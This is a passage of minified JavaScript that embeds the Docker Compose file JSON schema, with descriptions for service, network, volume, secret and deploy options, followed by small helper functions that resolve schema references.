1000."},weight_device:{type:"array",description:"Block IO weight (relative weight) for specific devices.",items:{$ref:"#/definitions/blkio_weight"}}},additionalProperties:!1},cap_add:{type:"array",items:{type:"string"},uniqueItems:!0,description:"Add Linux capabilities. For example, 'CAP_SYS_ADMIN', 'SYS_ADMIN', or 'NET_ADMIN'."},cap_drop:{type:"array",items:{type:"string"},uniqueItems:!0,description:"Drop Linux capabilities. For example, 'CAP_SYS_ADMIN', 'SYS_ADMIN', or 'NET_ADMIN'."},cgroup:{type:"string",enum:["host","private"],description:"Specify the cgroup namespace to join. Use 'host' to use the host's cgroup namespace, or 'private' to use a private cgroup namespace."},cgroup_parent:{type:"string",description:"Specify an optional parent cgroup for the container."},command:{$ref:"#/definitions/command",description:"Override the default command declared by the container image, for example 'CMD' in Dockerfile."},configs:{$ref:"#/definitions/service_config_or_secret",description:"Grant access to Configs on a per-service basis."},container_name:{type:"string",description:"Specify a custom container name, rather than a generated default name.",pattern:"[a-zA-Z0-9][a-zA-Z0-9_.-]+"},cpu_count:{oneOf:[{type:"string"},{type:"integer",minimum:0}],description:"Number of usable CPUs."},cpu_percent:{oneOf:[{type:"string"},{type:"integer",minimum:0,maximum:100}],description:"Percentage of CPU resources to use."},cpu_shares:{type:["number","string"],description:"CPU shares (relative weight) for the container."},cpu_quota:{type:["number","string"],description:"Limit the CPU CFS (Completely Fair Scheduler) quota."},cpu_period:{type:["number","string"],description:"Limit the CPU CFS (Completely Fair Scheduler) period."},cpu_rt_period:{type:["number","string"],description:"Limit the CPU real-time period in microseconds or a duration."},cpu_rt_runtime:{type:["number","string"],description:"Limit the CPU real-time runtime in microseconds or a duration."},cpus:{type:["number","string"],description:"Number of CPUs to use. A floating-point value is supported to request partial CPUs."},cpuset:{type:"string",description:"CPUs in which to allow execution (0-3, 0,1)."},credential_spec:{type:"object",description:"Configure the credential spec for managed service account.",properties:{config:{type:"string",description:"The name of the credential spec Config to use."},file:{type:"string",description:"Path to a credential spec file."},registry:{type:"string",description:"Path to a credential spec in the Windows registry."}},additionalProperties:!1,patternProperties:{"^x-":{}}},depends_on:{oneOf:[{$ref:"#/definitions/list_of_strings"},{type:"object",additionalProperties:!1,patternProperties:{"^[a-zA-Z0-9._-]+$":{type:"object",additionalProperties:!1,patternProperties:{"^x-":{}},properties:{restart:{type:["boolean","string"],description:"Whether to restart dependent services when this service is restarted."},required:{type:"boolean",default:!0,description:"Whether the dependency is required for the dependent service to start."},condition:{type:"string",enum:["service_started","service_healthy","service_completed_successfully"],description:"Condition to wait for. 'service_started' waits until the service has started, 'service_healthy' waits until the service is healthy (as defined by its healthcheck), 'service_completed_successfully' waits until the service has completed successfully."}},required:["condition"]}}}],description:"Express dependency between services. Service dependencies cause services to be started in dependency order. The dependent service will wait for the dependency to be ready before starting."},device_cgroup_rules:{$ref:"#/definitions/list_of_strings",description:"Add rules to the cgroup allowed devices list."},devices:{type:"array",description:"List of device mappings for the container.",items:{oneOf:[{type:"string"},{type:"object",required:["source"],properties:{source:{type:"string",description:"Path on the host to the device."},target:{type:"string",description:"Path in the container where the device will be mapped."},permissions:{type:"string",description:"Cgroup permissions for the device (rwm)."}},additionalProperties:!1,patternProperties:{"^x-":{}}}]}},dns:{$ref:"#/definitions/string_or_list",description:"Custom DNS servers to set for the service container."},dns_opt:{type:"array",items:{type:"string"},uniqueItems:!0,description:"Custom DNS options to be passed to the container's DNS resolver."},dns_search:{$ref:"#/definitions/string_or_list",description:"Custom DNS search domains to set on the service container."},domainname:{type:"string",description:"Custom domain name to use for the service container."},entrypoint:{$ref:"#/definitions/command",description:"Override the default entrypoint declared by the container image, for example 'ENTRYPOINT' in Dockerfile."},env_file:{$ref:"#/definitions/env_file",description:"Add environment variables from a file or multiple files. Can be a single file path or a list of file paths."},label_file:{$ref:"#/definitions/label_file",description:"Add metadata to containers using files containing Docker labels."},environment:{$ref:"#/definitions/list_or_dict",description:"Add environment variables. You can use either an array or a list of KEY=VAL pairs."},expose:{type:"array",items:{type:["string","number"]},uniqueItems:!0,description:"Expose ports without publishing them to the host machine - they'll only be accessible to linked services."},extends:{oneOf:[{type:"string"},{type:"object",properties:{service:{type:"string",description:"The name of the service to extend."},file:{type:"string",description:"The file path where the service to extend is defined."}},required:["service"],additionalProperties:!1}],description:"Extend another service, in the current file or another file."},provider:{type:"object",description:"Specify a service which will not be manage by Compose directly, and delegate its management to an external provider.",required:["type"],properties:{type:{type:"string",description:"External component used by Compose to manage setup and teardown lifecycle of the service."},options:{type:"object",description:"Provider-specific options.",patternProperties:{"^.+$":{oneOf:[{type:["string","number","boolean"]},{type:"array",items:{type:["string","number","boolean"]}}]}}}},additionalProperties:!1,patternProperties:{"^x-":{}}},external_links:{type:"array",items:{type:"string"},uniqueItems:!0,description:"Link to services started outside this Compose application. Specify services as <service_name>:<alias>."},extra_hosts:{$ref:"#/definitions/extra_hosts",description:"Add hostname mappings to the container network interface configuration."},gpus:{$ref:"#/definitions/gpus",description:"Define GPU devices to use. Can be set to 'all' to use all GPUs, or a list of specific GPU devices."},group_add:{type:"array",items:{type:["string","number"]},uniqueItems:!0,description:"Add additional groups which user inside the container should be member of."},healthcheck:{$ref:"#/definitions/healthcheck",description:"Configure a health check for the container to monitor its health status."},hostname:{type:"string",description:"Define a custom hostname for the service container."},image:{type:"string",description:"Specify the image to start the container from. Can be a repository/tag, a digest, or a local image ID."},init:{type:["boolean","string"],description:"Run as an init process inside the container that forwards signals and reaps processes."},ipc:{type:"string",description:"IPC sharing mode for the service container. Use 'host' to share the host's IPC namespace, 'service:[service_name]' to share with another service, or 'shareable' to allow other services to share this service's IPC namespace."},isolation:{type:"string",description:"Container isolation technology to use. Supported values are platform-specific."},labels:{$ref:"#/definitions/list_or_dict",description:"Add metadata to containers using Docker labels. You can use either an array or a list."},links:{type:"array",items:{type:"string"},uniqueItems:!0,description:"Link to containers in another service. Either specify both the service name and a link alias (SERVICE:ALIAS), or just the service name."},logging:{type:"object",description:"Logging configuration for the service.",properties:{driver:{type:"string",description:"Logging driver to use, such as 'json-file', 'syslog', 'journald', etc."},options:{type:"object",description:"Options for the logging driver.",patternProperties:{"^.+$":{type:["string","number","null"]}}}},additionalProperties:!1,patternProperties:{"^x-":{}}},mac_address:{type:"string",description:"Container MAC address to set."},mem_limit:{type:["number","string"],description:"Memory limit for the container. A string value can use suffix like '2g' for 2 gigabytes."},mem_reservation:{type:["string","integer"],description:"Memory reservation for the container."},mem_swappiness:{type:["integer","string"],description:"Container memory swappiness as percentage (0 to 100)."},memswap_limit:{type:["number","string"],description:"Amount of memory the container is allowed to swap to disk. Set to -1 to enable unlimited swap."},network_mode:{type:"string",description:"Network mode. Values can be 'bridge', 'host', 'none', 'service:[service name]', or 'container:[container name]'."},models:{oneOf:[{$ref:"#/definitions/list_of_strings"},{type:"object",patternProperties:{"^[a-zA-Z0-9._-]+$":{type:"object",properties:{endpoint_var:{type:"string",description:"Environment variable set to AI model endpoint."},model_var:{type:"string",description:"Environment variable set to AI model name."}},additionalProperties:!1,patternProperties:{"^x-":{}}}}}],description:"AI Models to use, referencing entries under the top-level models key."},networks:{oneOf:[{$ref:"#/definitions/list_of_strings"},{type:"object",patternProperties:{"^[a-zA-Z0-9._-]+$":{oneOf:[{type:"object",properties:{aliases:{$ref:"#/definitions/list_of_strings",description:"Alternative hostnames for this service on the network."},interface_name:{type:"string",description:"Interface network name used to connect to network"},ipv4_address:{type:"string",description:"Specify a static IPv4 address for this service on this network."},ipv6_address:{type:"string",description:"Specify a static IPv6 address for this service on this network."},link_local_ips:{$ref:"#/definitions/list_of_strings",description:"List of link-local IPs."},mac_address:{type:"string",description:"Specify a MAC address for this service on this network."},driver_opts:{type:"object",description:"Driver options for this network.",patternProperties:{"^.+$":{type:["string","number"]}}},priority:{type:"number",description:"Specify the priority for the network connection."},gw_priority:{type:"number",description:"Specify the gateway priority for the network connection."}},additionalProperties:!1,patternProperties:{"^x-":{}}},{type:"null"}]}},additionalProperties:!1}],description:"Networks to join, referencing entries under the top-level networks key. Can be a list of network names or a mapping of network name to network configuration."},oom_kill_disable:{type:["boolean","string"],description:"Disable OOM Killer for the container."},oom_score_adj:{oneOf:[{type:"string"},{type:"integer",minimum:-1e3,maximum:1e3}],description:"Tune host's OOM preferences for the container (accepts -1000 to 1000)."},pid:{type:["string","null"],description:"PID mode for container."},pids_limit:{type:["number","string"],description:"Tune a container's PIDs limit. Set to -1 for unlimited PIDs."},platform:{type:"string",description:"Target platform to run on, e.g., 'linux/amd64', 'linux/arm64', or 'windows/amd64'."},ports:{type:"array",description:"Expose container ports. Short format ([HOST:]CONTAINER[/PROTOCOL]).",items:{oneOf:[{type:"number"},{type:"string"},{type:"object",properties:{name:{type:"string",description:"A human-readable name for this port mapping."},mode:{type:"string",description:"The port binding mode, either 'host' for publishing a host port or 'ingress' for load balancing."},host_ip:{type:"string",description:"The host IP to bind to."},target:{type:["integer","string"],description:"The port inside the container."},published:{type:["string","integer"],description:"The publicly exposed port."},protocol:{type:"string",description:"The port protocol (tcp or udp)."},app_protocol:{type:"string",description:"Application protocol to use with the port (e.g., http, https, mysql)."}},additionalProperties:!1,patternProperties:{"^x-":{}}}]},uniqueItems:!0},post_start:{type:"array",items:{$ref:"#/definitions/service_hook"},description:"Commands to run after the container starts. If any command fails, the container stops."},pre_stop:{type:"array",items:{$ref:"#/definitions/service_hook"},description:"Commands to run before the container stops. If any command fails, the container stop is aborted."},privileged:{type:["boolean","string"],description:"Give extended privileges to the service container."},profiles:{$ref:"#/definitions/list_of_strings",description:"List of profiles for this service. When profiles are specified, services are only started when the profile is activated."},pull_policy:{type:"string",pattern:"always|never|build|if_not_present|missing|refresh|daily|weekly|every_([0-9]+[wdhms])+",description:"Policy for pulling images. Options include: 'always', 'never', 'if_not_present', 'missing', 'build', or time-based refresh policies."},pull_refresh_after:{type:"string",description:"Time after which to refresh the image. Used with pull_policy=refresh."},read_only:{type:["boolean","string"],description:"Mount the container's filesystem as read only."},restart:{type:"string",description:"Restart policy for the service container. Options include: 'no', 'always', 'on-failure', and 'unless-stopped'."},runtime:{type:"string",description:"Runtime to use for this container, e.g., 'runc'."},scale:{type:["integer","string"],description:"Number of containers to deploy for this service."},security_opt:{type:"array",items:{type:"string"},uniqueItems:!0,description:"Override the default labeling scheme for each container."},shm_size:{type:["number","string"],description:"Size of /dev/shm. A string value can use suffix like '2g' for 2 gigabytes."},secrets:{$ref:"#/definitions/service_config_or_secret",description:"Grant access to Secrets on a per-service basis."},sysctls:{$ref:"#/definitions/list_or_dict",description:"Kernel parameters to set in the container. You can use either an array or a list."},stdin_open:{type:["boolean","string"],description:"Keep STDIN open even if not attached."},stop_grace_period:{type:"string",description:"Time to wait for the container to stop gracefully before sending SIGKILL (e.g., '1s', '1m30s')."},stop_signal:{type:"string",description:"Signal to stop the container (e.g., 'SIGTERM', 'SIGINT')."},storage_opt:{type:"object",description:"Storage driver options for the container."},tmpfs:{$ref:"#/definitions/string_or_list",description:"Mount a temporary filesystem (tmpfs) into the container. Can be a single value or a list."},tty:{type:["boolean","string"],description:"Allocate a pseudo-TTY to service container."},ulimits:{$ref:"#/definitions/ulimits",description:"Override the default ulimits for a container."},use_api_socket:{type:"boolean",description:"Bind mount Docker API socket and required auth."},user:{type:"string",description:"Username or UID to run the container process as."},uts:{type:"string",description:"UTS namespace to use. 'host' shares the host's UTS namespace."},userns_mode:{type:"string",description:"User namespace to use. 'host' shares the host's user namespace."},volumes:{type:"array",description:"Mount host paths or named volumes accessible to the container. Short syntax (VOLUME:CONTAINER_PATH[:MODE])",items:{oneOf:[{type:"string"},{type:"object",required:["type"],properties:{type:{type:"string",enum:["bind","volume","tmpfs","cluster","npipe","image"],description:"The mount type: bind for mounting host directories, volume for named volumes, tmpfs for temporary filesystems, cluster for cluster volumes, npipe for named pipes, or image for mounting from an image."},source:{type:"string",description:"The source of the mount, a path on the host for a bind mount, a docker image reference for an image mount, or the name of a volume defined in the top-level volumes key. Not applicable for a tmpfs mount."},target:{type:"string",description:"The path in the container where the volume is mounted."},read_only:{type:["boolean","string"],description:"Flag to set the volume as read-only."},consistency:{type:"string",description:"The consistency requirements for the mount. Available values are platform specific."},bind:{type:"object",description:"Configuration specific to bind mounts.",properties:{propagation:{type:"string",description:"The propagation mode for the bind mount: 'shared', 'slave', 'private', 'rshared', 'rslave', or 'rprivate'."},create_host_path:{type:["boolean","string"],description:"Create the host path if it doesn't exist."},recursive:{type:"string",enum:["enabled","disabled","writable","readonly"],description:"Recursively mount the source directory."},selinux:{type:"string",enum:["z","Z"],description:"SELinux relabeling options: 'z' for shared content, 'Z' for private unshared content."}},additionalProperties:!1,patternProperties:{"^x-":{}}},volume:{type:"object",description:"Configuration specific to volume mounts.",properties:{labels:{$ref:"#/definitions/list_or_dict",description:"Labels to apply to the volume."},nocopy:{type:["boolean","string"],description:"Flag to disable copying of data from a container when a volume is created."},subpath:{type:"string",description:"Path within the volume to mount instead of the volume root."}},additionalProperties:!1,patternProperties:{"^x-":{}}},tmpfs:{type:"object",description:"Configuration specific to tmpfs mounts.",properties:{size:{oneOf:[{type:"integer",minimum:0},{type:"string"}],description:"Size of the tmpfs mount in bytes."},mode:{type:["number","string"],description:"File mode of the tmpfs in octal."}},additionalProperties:!1,patternProperties:{"^x-":{}}},image:{type:"object",description:"Configuration specific to image mounts.",properties:{subpath:{type:"string",description:"Path within the image to mount instead of the image root."}},additionalProperties:!1,patternProperties:{"^x-":{}}}},additionalProperties:!1,patternProperties:{"^x-":{}}}]},uniqueItems:!0},volumes_from:{type:"array",items:{type:"string"},uniqueItems:!0,description:"Mount volumes from another service or container. Optionally specify read-only access (ro) or read-write (rw)."},working_dir:{type:"string",description:"The working directory in which the entrypoint or command will be run"}},patternProperties:{"^x-":{}},additionalProperties:!1},healthcheck:{type:"object",description:"Configuration options to determine whether the container is healthy.",properties:{disable:{type:["boolean","string"],description:"Disable any container-specified healthcheck. Set to true to disable."},interval:{type:"string",description:"Time between running the check (e.g., '1s', '1m30s'). Default: 30s."},retries:{type:["number","string"],description:"Number of consecutive failures needed to consider the container as unhealthy. Default: 3."},test:{oneOf:[{type:"string"},{type:"array",items:{type:"string"}}],description:"The test to perform to check container health. Can be a string or a list. The first item is either NONE, CMD, or CMD-SHELL. If it's CMD, the rest of the command is exec'd. If it's CMD-SHELL, the rest is run in the shell."},timeout:{type:"string",description:"Maximum time to allow one check to run (e.g., '1s', '1m30s'). Default: 30s."},start_period:{type:"string",description:"Start period for the container to initialize before starting health-retries countdown (e.g., '1s', '1m30s'). Default: 0s."},start_interval:{type:"string",description:"Time between running the check during the start period (e.g., '1s', '1m30s'). Default: interval value."}},additionalProperties:!1,patternProperties:{"^x-":{}}},development:{type:["object","null"],description:"Development configuration for the service, used for development workflows.",properties:{watch:{type:"array",description:"Configure watch mode for the service, which monitors file changes and performs actions in response.",items:{type:"object",required:["path","action"],properties:{ignore:{$ref:"#/definitions/string_or_list",description:"Patterns to exclude from watching."},include:{$ref:"#/definitions/string_or_list",description:"Patterns to include in watching."},path:{type:"string",description:"Path to watch for changes."},action:{type:"string",enum:["rebuild","sync","restart","sync+restart","sync+exec"],description:"Action to take when a change is detected: rebuild the container, sync files, restart the container, sync and restart, or sync and execute a command."},target:{type:"string",description:"Target path in the container for sync operations."},exec:{$ref:"#/definitions/service_hook",description:"Command to execute when a change is detected and action is sync+exec."}},additionalProperties:!1,patternProperties:{"^x-":{}}}}},additionalProperties:!1,patternProperties:{"^x-":{}}},deployment:{type:["object","null"],description:"Deployment configuration for the service.",properties:{mode:{type:"string",description:"Deployment mode for the service: 'replicated' (default) or 'global'."},endpoint_mode:{type:"string",description:"Endpoint mode for the service: 'vip' (default) or 'dnsrr'."},replicas:{type:["integer","string"],description:"Number of replicas of the service container to run."},labels:{$ref:"#/definitions/list_or_dict",description:"Labels to apply to the service."},rollback_config:{type:"object",description:"Configuration for rolling back a service update.",properties:{parallelism:{type:["integer","string"],description:"The number of containers to rollback at a time. If set to 0, all containers rollback simultaneously."},delay:{type:"string",description:"The time to wait between each container group's rollback (e.g., '1s', '1m30s')."},failure_action:{type:"string",description:"Action to take if a rollback fails: 'continue', 'pause'."},monitor:{type:"string",description:"Duration to monitor each task for failures after it is created (e.g., '1s', '1m30s')."},max_failure_ratio:{type:["number","string"],description:"Failure rate to tolerate during a rollback."},order:{type:"string",enum:["start-first","stop-first"],description:"Order of operations during rollbacks: 'stop-first' (default) or 'start-first'."}},additionalProperties:!1,patternProperties:{"^x-":{}}},update_config:{type:"object",description:"Configuration for updating a service.",properties:{parallelism:{type:["integer","string"],description:"The number of containers to update at a time."},delay:{type:"string",description:"The time to wait between updating a group of containers (e.g., '1s', '1m30s')."},failure_action:{type:"string",description:"Action to take if an update fails: 'continue', 'pause', 'rollback'."},monitor:{type:"string",description:"Duration to monitor each updated task for failures after it is created (e.g., '1s', '1m30s')."},max_failure_ratio:{type:["number","string"],description:"Failure rate to tolerate during an update (0 to 1)."},order:{type:"string",enum:["start-first","stop-first"],description:"Order of operations during updates: 'stop-first' (default) or 'start-first'."}},additionalProperties:!1,patternProperties:{"^x-":{}}},resources:{type:"object",description:"Resource constraints and reservations for the service.",properties:{limits:{type:"object",description:"Resource limits for the service containers.",properties:{cpus:{type:["number","string"],description:"Limit for how much of the available CPU resources, as number of cores, a container can use."},memory:{type:"string",description:"Limit on the amount of memory a container can allocate (e.g., '1g', '1024m')."},pids:{type:["integer","string"],description:"Maximum number of PIDs available to the container."}},additionalProperties:!1,patternProperties:{"^x-":{}}},reservations:{type:"object",description:"Resource reservations for the service containers.",properties:{cpus:{type:["number","string"],description:"Reservation for how much of the available CPU resources, as number of cores, a container can use."},memory:{type:"string",description:"Reservation on the amount of memory a container can allocate (e.g., '1g', '1024m')."},generic_resources:{$ref:"#/definitions/generic_resources",description:"User-defined resources to reserve."},devices:{$ref:"#/definitions/devices",description:"Device reservations for the container."}},additionalProperties:!1,patternProperties:{"^x-":{}}}},additionalProperties:!1,patternProperties:{"^x-":{}}},restart_policy:{type:"object",description:"Restart policy for the service containers.",properties:{condition:{type:"string",description:"Condition for restarting the container: 'none', 'on-failure', 'any'."},delay:{type:"string",description:"Delay between restart attempts (e.g., '1s', '1m30s')."},max_attempts:{type:["integer","string"],description:"Maximum number of restart attempts before giving up."},window:{type:"string",description:"Time window used to evaluate the restart policy (e.g., '1s', '1m30s')."}},additionalProperties:!1,patternProperties:{"^x-":{}}},placement:{type:"object",description:"Constraints and preferences for the platform to select a physical node to run service containers",properties:{constraints:{type:"array",items:{type:"string"},description:"Placement constraints for the service (e.g., 'node.role==manager')."},preferences:{type:"array",description:"Placement preferences for the service.",items:{type:"object",properties:{spread:{type:"string",description:"Spread tasks evenly across values of the specified node label."}},additionalProperties:!1,patternProperties:{"^x-":{}}}},max_replicas_per_node:{type:["integer","string"],description:"Maximum number of replicas of the service."}},additionalProperties:!1,patternProperties:{"^x-":{}}}},additionalProperties:!1,patternProperties:{"^x-":{}}},generic_resources:{type:"array",description:"User-defined resources for services, allowing services to reserve specialized hardware resources.",items:{type:"object",properties:{discrete_resource_spec:{type:"object",description:"Specification for discrete (countable) resources.",properties:{kind:{type:"string",description:"Type of resource (e.g., 'GPU', 'FPGA', 'SSD')."},value:{type:["number","string"],description:"Number of resources of this kind to reserve."}},additionalProperties:!1,patternProperties:{"^x-":{}}}},additionalProperties:!1,patternProperties:{"^x-":{}}}},devices:{type:"array",description:"Device reservations for containers, allowing services to access specific hardware devices.",items:{type:"object",properties:{capabilities:{$ref:"#/definitions/list_of_strings",description:"List of capabilities the device needs to have (e.g., 'gpu', 'compute', 'utility')."},count:{type:["string","integer"],description:"Number of devices of this type to reserve."},device_ids:{$ref:"#/definitions/list_of_strings",description:"List of specific device IDs to reserve."},driver:{type:"string",description:"Device driver to use (e.g., 'nvidia')."},options:{$ref:"#/definitions/list_or_dict",description:"Driver-specific options for the device."}},additionalProperties:!1,patternProperties:{"^x-":{}},required:["capabilities"]}},gpus:{oneOf:[{type:"string",enum:["all"],description:"Use all available GPUs."},{type:"array",description:"List of specific GPU devices to use.",items:{type:"object",properties:{capabilities:{$ref:"#/definitions/list_of_strings",description:"List of capabilities the GPU needs to have (e.g., 'compute', 'utility')."},count:{type:["string","integer"],description:"Number of GPUs to use."},device_ids:{$ref:"#/definitions/list_of_strings",description:"List of specific GPU device IDs to use."},driver:{type:"string",description:"GPU driver to use (e.g., 'nvidia')."},options:{$ref:"#/definitions/list_or_dict",description:"Driver-specific options for the GPU."}}},additionalProperties:!1,patternProperties:{"^x-":{}}}]},include:{description:"Compose application or sub-projects to be included.",oneOf:[{type:"string"},{type:"object",properties:{path:{$ref:"#/definitions/string_or_list",description:"Path to the Compose application or sub-project files to include."},env_file:{$ref:"#/definitions/string_or_list",description:"Path to the environment files to use to define default values when interpolating variables in the Compose files being parsed."},project_directory:{type:"string",description:"Path to resolve relative paths set in the Compose file"}},additionalProperties:!1}]},network:{type:["object","null"],description:"Network configuration for the Compose application.",properties:{name:{type:"string",description:"Custom name for this network."},driver:{type:"string",description:"Specify which driver should be used for this network. Default is 'bridge'."},driver_opts:{type:"object",description:"Specify driver-specific options defined as key/value pairs.",patternProperties:{"^.+$":{type:["string","number"]}}},ipam:{type:"object",description:"Custom IP Address Management configuration for this network.",properties:{driver:{type:"string",description:"Custom IPAM driver, instead of the default."},config:{type:"array",description:"List of IPAM configuration blocks.",items:{type:"object",properties:{subnet:{type:"string",description:"Subnet in CIDR format that represents a network segment."},ip_range:{type:"string",description:"Range of IPs from which to allocate container IPs."},gateway:{type:"string",description:"IPv4 or IPv6 gateway for the subnet."},aux_addresses:{type:"object",description:"Auxiliary IPv4 or IPv6 addresses used by Network driver.",additionalProperties:!1,patternProperties:{"^.+$":{type:"string"}}}},additionalProperties:!1,patternProperties:{"^x-":{}}}},options:{type:"object",description:"Driver-specific options for the IPAM driver.",additionalProperties:!1,patternProperties:{"^.+$":{type:"string"}}}},additionalProperties:!1,patternProperties:{"^x-":{}}},external:{type:["boolean","string","object"],description:"Specifies that this network already exists and was created outside of Compose.",properties:{name:{deprecated:!0,type:"string",description:"Specifies the name of the external network. Deprecated: use the 'name' property instead."}},additionalProperties:!1,patternProperties:{"^x-":{}}},internal:{type:["boolean","string"],description:"Create an externally isolated network."},enable_ipv4:{type:["boolean","string"],description:"Enable IPv4 networking."},enable_ipv6:{type:["boolean","string"],description:"Enable IPv6 networking."},attachable:{type:["boolean","string"],description:"If true, standalone containers can attach to this network."},labels:{$ref:"#/definitions/list_or_dict",description:"Add metadata to the network using labels."}},additionalProperties:!1,patternProperties:{"^x-":{}}},volume:{type:["object","null"],description:"Volume configuration for the Compose application.",properties:{name:{type:"string",description:"Custom name for this volume."},driver:{type:"string",description:"Specify which volume driver should be used for this volume."},driver_opts:{type:"object",description:"Specify driver-specific options.",patternProperties:{"^.+$":{type:["string","number"]}}},external:{type:["boolean","string","object"],description:"Specifies that this volume already exists and was created outside of Compose.",properties:{name:{deprecated:!0,type:"string",description:"Specifies the name of the external volume. Deprecated: use the 'name' property instead."}},additionalProperties:!1,patternProperties:{"^x-":{}}},labels:{$ref:"#/definitions/list_or_dict",description:"Add metadata to the volume using labels."}},additionalProperties:!1,patternProperties:{"^x-":{}}},secret:{type:"object",description:"Secret configuration for the Compose application.",properties:{name:{type:"string",description:"Custom name for this secret."},environment:{type:"string",description:"Name of an environment variable from which to get the secret value."},file:{type:"string",description:"Path to a file containing the secret value."},external:{type:["boolean","string","object"],description:"Specifies that this secret already exists and was created outside of Compose.",properties:{name:{type:"string",description:"Specifies the name of the external secret."}}},labels:{$ref:"#/definitions/list_or_dict",description:"Add metadata to the secret using labels."},driver:{type:"string",description:"Specify which secret driver should be used for this secret."},driver_opts:{type:"object",description:"Specify driver-specific options.",patternProperties:{"^.+$":{type:["string","number"]}}},template_driver:{type:"string",description:"Driver to use for templating the secret's value."}},additionalProperties:!1,patternProperties:{"^x-":{}}},config:{type:"object",description:"Config configuration for the Compose application.",properties:{name:{type:"string",description:"Custom name for this config."},content:{type:"string",description:"Inline content of the config."},environment:{type:"string",description:"Name of an environment variable from which to get the config value."},file:{type:"string",description:"Path to a file containing the config value."},external:{type:["boolean","string","object"],description:"Specifies that this config already exists and was created outside of Compose.",properties:{name:{deprecated:!0,type:"string",description:"Specifies the name of the external config. Deprecated: use the 'name' property instead."}}},labels:{$ref:"#/definitions/list_or_dict",description:"Add metadata to the config using labels."},template_driver:{type:"string",description:"Driver to use for templating the config's value."}},additionalProperties:!1,patternProperties:{"^x-":{}}},model:{type:"object",description:"Language Model for the Compose application.",properties:{name:{type:"string",description:"Custom name for this model."},model:{type:"string",description:"Language Model to run."},context_size:{type:"integer"},runtime_flags:{type:"array",items:{type:"string"},description:"Raw runtime flags to pass to the inference engine."}},required:["model"],additionalProperties:!1,patternProperties:{"^x-":{}}},command:{oneOf:[{type:"null",description:"No command specified, use the container's default command."},{type:"string",description:"Command as a string, which will be executed in a shell (e.g., '/bin/sh -c')."},{type:"array",description:"Command as an array of strings, which will be executed directly without a shell.",items:{type:"string",description:"Part of the command (executable or argument)."}}],description:"Command to run in the container, which can be specified as a string (shell form) or array (exec form)."},service_hook:{type:"object",description:"Configuration for service lifecycle hooks, which are commands executed at specific points in a container's lifecycle.",properties:{command:{$ref:"#/definitions/command",description:"Command to execute as part of the hook."},user:{type:"string",description:"User to run the command as."},privileged:{type:["boolean","string"],description:"Whether to run the command with extended privileges."},working_dir:{type:"string",description:"Working directory for the command."},environment:{$ref:"#/definitions/list_or_dict",description:"Environment variables for the command."}},additionalProperties:!1,patternProperties:{"^x-":{}},required:["command"]},env_file:{oneOf:[{type:"string",description:"Path to a file containing environment variables."},{type:"array",description:"List of paths to files containing environment variables.",items:{oneOf:[{type:"string",description:"Path to a file containing environment variables."},{type:"object",description:"Detailed configuration for an environment file.",additionalProperties:!1,properties:{path:{type:"string",description:"Path to the environment file."},format:{type:"string",description:"Format attribute lets you to use an alternative file formats for env_file. When not set, env_file is parsed according to Compose rules."},required:{type:["boolean","string"],default:!0,description:"Whether the file is required. If true and the file doesn't exist, an error will be raised."}},required:["path"]}]}}]},label_file:{oneOf:[{type:"string",description:"Path to a file containing Docker labels."},{type:"array",description:"List of paths to files containing Docker labels.",items:{type:"string",description:"Path to a file containing Docker labels."}}]},string_or_list:{oneOf:[{type:"string",description:"A single string value."},{$ref:"#/definitions/list_of_strings",description:"A list of string values."}],description:"Either a single string or a list of strings."},list_of_strings:{type:"array",description:"A list of unique string values.",items:{type:"string",description:"A string value in the list."},uniqueItems:!0},list_or_dict:{oneOf:[{type:"object",description:"A dictionary mapping keys to values.",patternProperties:{".+":{type:["string","number","boolean","null"],description:"Value for the key, which can be a string, number, boolean, or null."}},additionalProperties:!1},{type:"array",description:"A list of unique string values.",items:{type:"string",description:"A string value in the list."},uniqueItems:!0}],description:"Either a dictionary mapping keys to values, or a list of strings."},extra_hosts:{oneOf:[{type:"object",description:"list mapping hostnames to IP addresses.",patternProperties:{".+":{oneOf:[{type:"string",description:"IP address for the hostname."},{type:"array",description:"List of IP addresses for the hostname.",items:{type:"string",description:"IP address for the hostname."},uniqueItems:!1}]}},additionalProperties:!1},{type:"array",description:"List of host:IP mappings in the format 'hostname:IP'.",items:{type:"string",description:"Host:IP mapping in the format 'hostname:IP'."},uniqueItems:!0}],description:"Additional hostnames to be defined in the container's /etc/hosts file."},blkio_limit:{type:"object",description:"Block IO limit for a specific device.",properties:{path:{type:"string",description:"Path to the device (e.g., '/dev/sda')."},rate:{type:["integer","string"],description:"Rate limit in bytes per second or IO operations per second."}},additionalProperties:!1},blkio_weight:{type:"object",description:"Block IO weight for a specific device.",properties:{path:{type:"string",description:"Path to the device (e.g., '/dev/sda')."},weight:{type:["integer","string"],description:"Relative weight for the device, between 10 and 1000."}},additionalProperties:!1},service_config_or_secret:{type:"array",description:"Configuration for service configs or secrets, defining how they are mounted in the container.",items:{oneOf:[{type:"string",description:"Name of the config or secret to grant access to."},{type:"object",description:"Detailed configuration for a config or secret.",properties:{source:{type:"string",description:"Name of the config or secret as defined in the top-level configs or secrets section."},target:{type:"string",description:"Path in the container where the config or secret will be mounted. Defaults to /<source> for configs and /run/secrets/<source> for secrets."},uid:{type:"string",description:"UID of the file in the container. Default is 0 (root)."},gid:{type:"string",description:"GID of the file in the container. Default is 0 (root)."},mode:{type:["number","string"],description:"File permission mode inside the container, in octal. Default is 0444 for configs and 0400 for secrets."}},additionalProperties:!1,patternProperties:{"^x-":{}}}]}},ulimits:{type:"object",description:"Container ulimit options, controlling resource limits for processes inside the container.",patternProperties:{"^[a-z]+$":{oneOf:[{type:["integer","string"],description:"Single value for both soft and hard limits."},{type:"object",description:"Separate soft and hard limits.",properties:{hard:{type:["integer","string"],description:"Hard limit for the ulimit type. This is the maximum allowed value."},soft:{type:["integer","string"],description:"Soft limit for the ulimit type. This is the value that's actually enforced."}},required:["soft","hard"],additionalProperties:!1,patternProperties:{"^x-":{}}}]}}}}};var Nw=Rw;function jp(n){let e="";for(let t of n)e+=typeof t=="number"?`[${t}]`:e?`.${t}`:t;return e}function h$(n){let e=n;for(let t=0;e?.$ref&&t<20;t++){let s=/^#\/definitions\/(.+)$/.exec(e.$ref),i=s?Nw.definitions?.[s[1]]:void 0;e=i?{...i,description:e.description??i.description}:void 0}return e}function Ew(n){let e=h$(n);if(!e)return[];let t=e.oneOf??e.anyOf;return t?t.flatMap(s=>Ew({...s,description:s.description??e.description})):[e]}function _w(n){if(n.type!==void 0)return Array.isArray(n.type)?n.type:[n.type]}function Ow(n,e){let t=_w(n);return t?t.includes(e)||e==="integer"&&t.includes("number"):!0}var Pp=new Map;function $w(n){if(!Pp.has(n)){let 